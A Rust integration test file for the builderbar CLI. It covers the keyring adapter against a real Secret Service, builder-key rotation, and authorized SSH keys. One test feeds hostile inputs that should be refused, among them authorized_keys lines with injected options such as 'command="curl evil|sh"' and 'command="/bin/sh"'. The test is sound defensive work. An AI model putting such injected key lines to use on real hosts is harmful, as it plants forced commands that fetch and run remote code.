//! Keys for real: the keyring adapter against a real Secret Service
//! (gnome-keyring under dbus-run-session, from scripts/with-secret-service.sh,
//! which `make test` runs these under), the builder key through the CLI,
//! authorized keys from real ssh-keygen output, and hostile inputs.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

use builderbar::keys::{KeyringStore, SecretStore};
use builderbar::paths::Paths;

pub fn ed25519_line(comment: &str) -> String {
    let mut key =
        ssh_key::PrivateKey::random(&mut rand_core::OsRng, ssh_key::Algorithm::Ed25519).unwrap();
    key.set_comment(comment);
    key.public_key().to_openssh().unwrap()
}

fn builderbar(home: &Path, args: &[&str], stdin: Option<Vec<u8>>) -> std::process::Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_builderbar"))
        .args(args)
        .env("BUILDERBAR_HOME", home)
        .env("BUILDERBAR_LOG", "warn")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut pipe = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        if let Some(bytes) = stdin {
            // The CLI stops reading past its limit: a broken pipe is expected.
            let _ = pipe.write_all(&bytes);
        }
    });
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap();
    out
}

fn no_secret_service(err: impl std::fmt::Display) -> ! {
    panic!(
        "no Secret Service reachable ({err}); run the tests under scripts/with-secret-service.sh (make test does)"
    )
}

fn unique(tag: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!("test-{tag}-{}-{nanos}", std::process::id())
}

#[test]
fn keyring_adapter_round_trips_through_the_real_secret_service() {
    let store = KeyringStore::platform();
    let account = unique("adapter");
    match store.get(&account) {
        Ok(found) => assert!(found.is_none()),
        Err(e) => no_secret_service(e),
    }
    store.set(&account, "first secret").unwrap();
    assert_eq!(
        store.get(&account).unwrap().unwrap().as_str(),
        "first secret"
    );
    store.set(&account, "second secret").unwrap();
    assert_eq!(
        store.get(&account).unwrap().unwrap().as_str(),
        "second secret"
    );
    // Another handle (a new connection) sees the same item.
    assert_eq!(
        KeyringStore::platform()
            .get(&account)
            .unwrap()
            .unwrap()
            .as_str(),
        "second secret"
    );
    store.delete(&account).unwrap();
    assert!(store.get(&account).unwrap().is_none());
    store.delete(&account).unwrap();
}

fn files_under(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            out.extend(files_under(&path));
        } else {
            out.push(path);
        }
    }
    out
}

#[test]
fn the_builder_key_lives_in_the_secret_service_and_rotates() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path();
    let out = builderbar(home, &["keys", "show", "--json"], None);
    if !out.status.success() {
        no_secret_service(String::from_utf8_lossy(&out.stderr));
    }
    let first: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let first_line = first["openssh"].as_str().unwrap().to_owned();
    assert!(first_line.starts_with("ssh-ed25519 AAAA"));
    assert!(
        first["fingerprint"]
            .as_str()
            .unwrap()
            .starts_with("SHA256:")
    );

    // The secret is in the Secret Service, under this root's account…
    let paths = Paths::with_root(home);
    let secrets = KeyringStore::platform();
    let pem = secrets.get(&paths.keychain_account()).unwrap().unwrap();
    let private = ssh_key::PrivateKey::from_openssh(pem.as_str()).unwrap();
    assert_eq!(private.public_key().to_openssh().unwrap(), first_line);
    // …and in no file under the root.
    for file in files_under(home) {
        let text = String::from_utf8_lossy(&std::fs::read(&file).unwrap()).into_owned();
        assert!(!text.contains("PRIVATE KEY"), "{}", file.display());
    }
    // The public half is readable without the secret, and in the keys folder.
    assert_eq!(
        std::fs::read_to_string(home.join("builder_ed25519.pub"))
            .unwrap()
            .trim(),
        first_line
    );
    let folder = std::fs::read_to_string(home.join("vm-keys/builder_ed25519.pub")).unwrap();
    assert_eq!(folder.trim(), first_line);

    // Shown again: the same key.
    let again = builderbar(home, &["keys", "show"], None);
    assert!(String::from_utf8_lossy(&again.stdout).contains(&first_line));

    // Rotated: a new key everywhere, the old one gone.
    let out = builderbar(home, &["keys", "rotate"], None);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let new_line = std::fs::read_to_string(home.join("builder_ed25519.pub"))
        .unwrap()
        .trim()
        .to_owned();
    assert_ne!(new_line, first_line);
    let folder = std::fs::read_to_string(home.join("vm-keys/builder_ed25519.pub")).unwrap();
    assert!(folder.contains(&new_line) && !folder.contains(&first_line));
    let pem = secrets.get(&paths.keychain_account()).unwrap().unwrap();
    let private = ssh_key::PrivateKey::from_openssh(pem.as_str()).unwrap();
    assert_eq!(private.public_key().to_openssh().unwrap(), new_line);
    assert!(
        secrets
            .get(&format!("{}.next", paths.keychain_account()))
            .unwrap()
            .is_none()
    );
    // Nothing printed carries key material.
    let printed = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!printed.contains("PRIVATE"));

    secrets.delete(&paths.keychain_account()).unwrap();
}

fn ssh_keygen_pub(dir: &Path, args: &[&str], name: &str) -> String {
    let path = dir.join(name);
    let status = Command::new("ssh-keygen")
        .args(args)
        .args(["-q", "-N", "", "-C", name, "-f"])
        .arg(&path)
        .status()
        .unwrap();
    assert!(status.success());
    std::fs::read_to_string(path.with_extension("pub")).unwrap()
}

#[test]
fn authorized_keys_from_ssh_keygen_are_listed_and_removed() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let ed = ssh_keygen_pub(dir.path(), &["-t", "ed25519"], "ed");
    let ecdsa = ssh_keygen_pub(dir.path(), &["-t", "ecdsa"], "ec");
    ssh_keygen_pub(dir.path(), &["-t", "rsa", "-b", "2048"], "rsa2048");
    let weak = ssh_keygen_pub(dir.path(), &["-t", "rsa", "-b", "1024"], "rsa1024");

    let out = builderbar(
        &home,
        &["keys", "add", "-"],
        Some(format!("{ed}{ecdsa}").into_bytes()),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = builderbar(
        &home,
        &[
            "keys",
            "add",
            dir.path().join("rsa2048.pub").to_str().unwrap(),
        ],
        None,
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let out = builderbar(&home, &["keys", "add", "-"], Some(weak.into_bytes()));
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("1024-bit RSA key"));
    let out = builderbar(&home, &["keys", "add", "-"], Some(ed.clone().into_bytes()));
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("already authorized"));

    let out = builderbar(&home, &["keys", "list", "--json"], None);
    let list: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let algorithms: Vec<&str> = list
        .iter()
        .map(|k| k["algorithm"].as_str().unwrap())
        .collect();
    assert_eq!(
        algorithms,
        ["ssh-ed25519", "ecdsa-sha2-nistp256", "ssh-rsa"]
    );
    assert_eq!(list[0]["comment"], "ed");

    // ssh-keygen's fingerprint is the one we show.
    let keygen = Command::new("ssh-keygen")
        .args(["-l", "-E", "sha256", "-f"])
        .arg(dir.path().join("ed.pub"))
        .output()
        .unwrap();
    let fpr = list[0]["fingerprint"].as_str().unwrap();
    assert!(String::from_utf8_lossy(&keygen.stdout).contains(fpr));

    let folder = std::fs::read_to_string(home.join("vm-keys/builder_ed25519.pub")).unwrap();
    assert_eq!(folder.lines().count(), 3);
    let out = builderbar(&home, &["keys", "remove", fpr], None);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let folder = std::fs::read_to_string(home.join("vm-keys/builder_ed25519.pub")).unwrap();
    assert_eq!(folder.lines().count(), 2);
    assert!(!folder.contains(ed.split(' ').nth(1).unwrap()));
    let out = builderbar(&home, &["keys", "remove", fpr], None);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no authorized key"));
}

#[test]
fn hostile_inputs_are_refused_and_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path();
    let good = ed25519_line("good");
    let out = builderbar(home, &["keys", "add", "-"], Some(good.clone().into_bytes()));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let folder_file = home.join("vm-keys/builder_ed25519.pub");
    let folder_before = std::fs::read(&folder_file).unwrap();
    let settings_before = std::fs::read(home.join("settings.toml")).unwrap();

    let other = ed25519_line("other");
    let garbage: Vec<u8> = (0..10 * 1024 * 1024u32).map(|i| (i % 251) as u8).collect();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "a newline then options",
            format!("{other}\ncommand=\"curl evil|sh\" {other}").into_bytes(),
        ),
        (
            "a newline then bare options",
            format!("{other}\ncommand=\"curl evil|sh\"").into_bytes(),
        ),
        ("an options prefix", format!("command=\"/bin/sh\" {other}").into_bytes()),
        ("restrict options", format!("restrict,pty {other}").into_bytes()),
        ("a control character", format!("{other}\u{1b}[2J").into_bytes()),
        ("a carriage return inside", format!("{other}\rssh-ed25519 x").into_bytes()),
        ("10 MB of garbage", garbage),
        ("10 MB of key-looking text", format!("ssh-ed25519 {}", "A".repeat(10 << 20)).into_bytes()),
        ("a private key", b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1r\n-----END OPENSSH PRIVATE KEY-----\n".to_vec()),
        ("a DSA key", b"ssh-dss AAAAB3NzaC1kc3MAAACBAP8= x".to_vec()),
        ("nothing", b"\n\n".to_vec()),
        ("the same key again", good.clone().into_bytes()),
    ];
    for (name, input) in cases {
        let out = builderbar(home, &["keys", "add", "-"], Some(input));
        assert!(!out.status.success(), "{name}: accepted");
        let err = String::from_utf8_lossy(&out.stderr);
        let lines: Vec<&str> = err.lines().collect();
        assert_eq!(lines.len(), 2, "{name}: {err}");
        assert!(lines[1].trim_start().starts_with("hint:"), "{name}: {err}");
        assert!(!err.contains(&other), "{name}: the input is echoed: {err}");
        assert!(err.len() < 400, "{name}: {err}");
        assert_eq!(
            std::fs::read(&folder_file).unwrap(),
            folder_before,
            "{name}"
        );
        assert_eq!(
            std::fs::read(home.join("settings.toml")).unwrap(),
            settings_before,
            "{name}"
        );
    }
}
